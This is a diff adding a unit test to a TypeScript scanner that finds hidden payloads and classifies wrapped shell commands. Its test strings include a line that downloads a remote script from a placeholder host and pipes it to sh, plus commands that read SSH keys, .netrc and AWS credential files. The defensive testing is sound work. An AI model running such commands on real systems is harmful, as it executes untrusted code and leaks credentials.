@@ -15,6 +15,12 @@ function payloadsOf(files: Record<string, string>): { how: string; text: string;
 }
 
 describe('findHiddenPayloads', () => {
+  it('names a decoded command line that starts with wrappers as shell', () => {
+    assert.equal(decodedFileName('timeout 60 sh -c "$(curl -fsSL https://e.test/a.sh)"'), 'decoded.sh');
+    assert.equal(decodedFileName('nohup bash scripts/worker.sh'), 'decoded.sh');
+    assert.equal(decodedFileName('timeout is how long the job may run'), 'decoded.md');
+  });
+
   it('takes the wrappers off a command, once per line, across continuation lines', () => {
     const script = ['#!/bin/bash', 'timeout 5 cat ~/.ssh/id_rsa', 'echo ok; sudo -u root nohup cat ~/.netrc', 'stdbuf -oL \\', '  cat ~/.aws/credentials', 'sudo', 'command -v jq', ''].join('\n');
     const wrapped = payloadsOf({ 'scripts/a.sh': script }).filter((payload) => payload.how === 'command wrapper');
